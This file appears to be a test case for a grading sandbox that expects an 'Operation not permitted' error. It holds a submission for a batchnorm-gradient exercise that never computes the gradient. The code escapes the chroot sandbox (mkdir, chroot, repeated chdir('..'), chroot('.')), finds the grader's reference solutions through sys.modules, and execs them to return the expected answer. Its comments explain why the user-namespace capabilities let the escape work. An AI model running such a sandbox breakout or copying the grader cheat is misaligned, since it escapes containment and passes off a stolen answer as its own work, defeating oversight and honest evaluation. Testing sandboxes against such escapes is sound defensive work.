# expect: exercise=ex3 item=ex3.dhprebn status=error message=Operation not permitted
# Climb out of the room: make a folder in it, chroot into the folder (the working directory stays outside the
# new root), chdir("..") up to the real root, and chroot there. Where the sandbox is an ordinary user's child
# in a user namespace, it holds every capability of that namespace (CAP_SYS_CHROOT, and CAP_DAC_OVERRIDE over
# the grader's own read-only room), so this works; the grader's package (in sys.modules) says where the
# reference solutions are. Ex3's dhprebn then runs reference/ex3.py. Tried whatever the uid.
import torch  # noqa: E402

DIR = "w19-climb"


def _escape(os):
    room = os.open("/", os.O_RDONLY)
    try:
        target = DIR
        try:
            os.mkdir(DIR, 0o700)
        except OSError:
            target = "."  # as an unprivileged uid: EACCES; chroot(".") then says EPERM
        os.chroot(target)
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
    finally:
        try:
            os.rmdir(DIR, dir_fd=room)
        except OSError:
            pass
        os.close(room)


def dhprebn(dhpreact, bngain, bnvar_inv, bnraw, n):
    os = torch.os
    _escape(os)
    package = os.path.dirname(torch.sys.modules["grader"].__file__)
    path = os.path.join(os.path.dirname(package), "reference", "ex3.py")
    fd = os.open(path, os.O_RDONLY)
    text = os.read(fd, 1 << 20).decode()
    os.close(fd)
    solution = {}
    exec(compile(text, path, "exec"), solution)
    return solution["dhprebn"](dhpreact, bngain, bnvar_inv, bnraw, n)
